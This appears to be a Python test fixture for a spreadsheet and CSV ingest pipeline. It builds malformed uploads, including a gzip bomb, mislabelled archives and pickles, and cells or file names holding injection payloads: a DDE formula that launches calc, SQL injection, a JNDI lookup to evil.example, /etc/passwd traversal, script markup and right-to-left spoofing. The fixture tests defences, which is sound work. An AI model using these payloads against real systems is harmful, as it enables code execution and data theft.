"""Attacks by a name: other files that are called a list, lists that are called something else, and odd names."""

import bz2
import gzip
import io
import json
import lzma
import os
import pickle
import zipfile
import zlib
from pathlib import Path

from data_pipeline_tests.ingest.siege import Attack
from data_pipeline_tests.ingest.text.attack import (
    HEADER,
    LINES,
    MIB,
    SOUND,
    Content,
    join,
    list_records,
    read_as,
    refused,
)
from data_pipeline_tests.ingest.workbook.workbooks import HEADER as SHEET_HEADER
from data_pipeline_tests.ingest.workbook.workbooks import row, write_workbook

RECORDS = [dict(zip(HEADER, record, strict=True)) for record in SOUND[1:]]
PICKLE = pickle.dumps(RECORDS, protocol=0).decode()
PROGRAM = bytes(range(256)) * 4


def pack(**members: bytes) -> bytes:
    """A zip archive."""
    packed = io.BytesIO()
    with zipfile.ZipFile(packed, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, content in members.items():
            archive.writestr(name.replace("_", "."), content)
    return packed.getvalue()


def write_sheet(path: Path) -> None:
    """A workbook, whatever the path says."""
    cells = row(2, '<c r="A2"><v>1</v></c>', '<c r="B2"><v>7</v></c>')
    write_workbook(path.with_name("book.xlsx"), SHEET_HEADER + cells).rename(path)


BINARY: dict[str, bytes] = {
    "a gzip archive": gzip.compress(LINES.encode()),
    "a gzip bomb": gzip.compress(bytes(30 * MIB)),
    "a gzip archive of a gzip archive": gzip.compress(gzip.compress(LINES.encode())),
    "a zip archive": pack(stok_csv=LINES.encode()),
    "an empty zip archive": pack(),
    "a bzip2 archive": bz2.compress(LINES.encode()),
    "an xz archive": lzma.compress(LINES.encode()),
    "a Zstandard archive": b"\x28\xb5\x2f\xfd" + PROGRAM,
    "an LZ4 archive": b"\x04\x22\x4d\x18" + PROGRAM,
    "a 7z archive": b"7z\xbc\xaf\x27\x1c" + PROGRAM,
    "a RAR archive": b"Rar!\x1a\x07\x01\0" + PROGRAM,
    "a picture (PNG)": b"\x89PNG\r\n\x1a\n" + PROGRAM,
    "a picture (JPEG)": b"\xff\xd8\xff\xe0" + PROGRAM,
    "a picture (GIF)": b"GIF89a\1\0\1\0" + PROGRAM,
    "a PDF": b"%PDF-1.7\n" + LINES.encode() * 50,
    "a program (ELF)": b"\x7fELF\2\1\1" + PROGRAM,
    "a program (EXE)": b"MZ\x90\0\3\0\0\0" + PROGRAM,
    "a database": b"SQLite format 3\0" + PROGRAM,
    "a Parquet file": b"PAR1\x15\x04\x15" + PROGRAM,
    "an Arrow file": b"ARROW1\0\0" + PROGRAM,
    **{f"a pickle, protocol {number}": pickle.dumps(RECORDS, protocol=number) for number in range(1, 6)},
    "a text document (RTF)": b"{\\rtf1\\ansi SKU,Nama\\par 1,Sabun\\par}\n",
    "a web page": b"<!DOCTYPE html>\n<html><body><table><tr><td>SKU</td></tr></table></body></html>\n",
    "a web page behind blank lines": b"\n\n  <html><head><title>Login, please</title></head></html>\n",
    "a table of HTML": b"<table>\n<tr><td>SKU</td><td>Stok</td></tr>\n</table>\n",
    "an XML document": b"<?xml version='1.0'?>\n<rows><row sku='1'/></rows>\n",
    "JSON": json.dumps(RECORDS, indent=1).encode(),
    "a JSON object": json.dumps({"error": "please, sign in"}).encode(),
    "JSON lines of lists": "".join(json.dumps(record) + "\n" for record in SOUND * 20).encode(),
    "an e-mail": b"From: a@example.com\nSubject: Stok, Januari\nMIME-Version: 1.0\n\nSKU,Nama\n",
    "a spreadsheet of 1985 (SYLK)": b"ID;PWXL;N;E\nC;Y1;X1;K\"SKU\"\nE\n",
}  # fmt: skip

FOREIGN: list[Attack] = [
    *(refused(name, content, "WRONG_CONTENT") for name, content in BINARY.items()),
    refused("a zlib stream", zlib.compress(join(list_records(500)).encode()), "WRONG_CONTENT", "AMBIGUOUS_ENCODING",
            "NUL_BYTES", "WRONG_ENCODING"),
    read_as("JSON lines", "".join(json.dumps(record) + "\n" for record in RECORDS * 2),
            (HEADER, *SOUND[1:] * 2), "SUFFIX_DISAGREES"),
    refused("half a workbook", pack(xl_workbook_xml=b"x" * 500)[:80], "UNREADABLE_FILE"),
    refused("nothing", b"", "EMPTY_FILE"),
    read_as("a pickle of text", PICKLE, tuple((line,) for line in PICKLE.splitlines()), "OPEN_END"),
    refused("a table for people to read", "+-----+------+\n| SKU | Stok |\n+-----+------+\n|  1  |  7   |\n" * 9,
            "AMBIGUOUS_DIALECT", "NO_HEADER", "WRONG_CONTENT", "DOUBLED_HEADER"),
    refused("a page to print (PostScript)", "%!PS-Adobe-3.0\n1,2\n", "WRONG_CONTENT"),
    read_as("fixed widths", "SKU    Nama     Stok\n0001   Sabun       7\n0002   Kopi        0\n",
            (("SKU    Nama     Stok",), ("0001   Sabun       7",), ("0002   Kopi        0",))),
    read_as("a workbook called .csv", write_sheet, (("SKU", "Stok"), ("1", "7")), "SUFFIX_DISAGREES"),
    read_as("a list called .xlsx", LINES, SOUND, "SUFFIX_DISAGREES", file_name="attack.xlsx"),
    read_as("a list called .xls", LINES.replace(",", "\t"), SOUND, "SUFFIX_DISAGREES", file_name="attack.xls"),
    read_as("a list called .pdf", LINES, SOUND, file_name="attack.pdf"),
    refused("a gzip archive called .csv.gz", gzip.compress(LINES.encode()), "WRONG_CONTENT", file_name="a.csv.gz"),
]  # fmt: skip


def holding(name: str, text: str) -> Attack:
    """A sound list in which one cell is this text, and must stay it."""
    content: Content = LINES.replace("Sabun", text)
    return read_as(name, content, (HEADER, ("0001", text, "7"), SOUND[2]))


TEXTS: list[Attack] = [
    holding("a formula that starts a program", "=cmd|' /C calc'!A0"),
    holding("a formula", "=1+1"),
    holding("a formula with a blank before it", " =HYPERLINK(A1)"),
    holding("an at sign", "@SUM(A1)"),
    holding("marks from right to left", "\u202egnp.exe\u202c"),
    holding("isolated marks from right to left", "\u2067abc\u2069"),
    holding("Arabic", "صابون ٧"),
    holding("characters of no width", "Sa\u200bb\u200cu\u200dn\ufeff"),
    holding("hard blanks", "\u00a0Sabun\u202f\u3000"),
    holding("characters beyond the first plane", "😀👩‍👩‍👧 𝔖𝔞𝔟𝔲𝔫"),
    holding("private characters and none", "\ue000\uf8ff\ufffe\uffff\U0010ffff"),
    holding("a letter of 40 accents", "e" + "\u0301" * 40),
    holding("two spellings of one word", "Café Cafe\u0301"),
    holding("a command of SQL", "'; DROP TABLE batches; --"),
    holding("a template", "${jndi:ldap://evil.example/a} {{7*7}} %s %n {0}"),
    holding("a path", "../../../etc/passwd"),
    holding("markup", "<script>alert(1)</script>"),
    holding("words for nothing", "NULL"),
    holding("a word for no number", "NaN"),
    holding("an escape of a terminal", "\x1b[31mSabun\x1b[0m"),
    holding("a bell", "Sa\x07bun"),
    holding("a backslash and an n", "Sabun\\nKopi"),
]

NAMES: list[Attack] = [
    *(read_as(f"the name {name[:20]!r}", LINES, SOUND, file_name=name)
      for name in ("-rf.csv", "a\nb.csv", "a;b,c.csv", "%s%n.csv", "{0}.csv", ".csv", "a.csv.", "sto k\u00a0.csv",
                   "\u202evsc.a", "=cmd|' C calc'!A0.csv", "n" * 251 + ".csv", "'\"`$(true).csv", "CON.csv",
                   "Стоки.CSV")),
    refused("an empty file with a line end in its name", b"", "EMPTY_FILE", file_name="a\nb.csv"),
    refused("an empty file with a name of 255 characters", b"", "EMPTY_FILE", file_name="n" * 251 + ".csv"),
    read_as("a name that is no text", LINES, SOUND, file_name=os.fsdecode(b"stok\xff.csv")),
    refused("an empty file with a name that is no text", b"", "EMPTY_FILE", file_name=os.fsdecode(b"stok\xff.csv")),
]  # fmt: skip

CONTENT_ATTACKS = [*FOREIGN, *TEXTS, *NAMES]
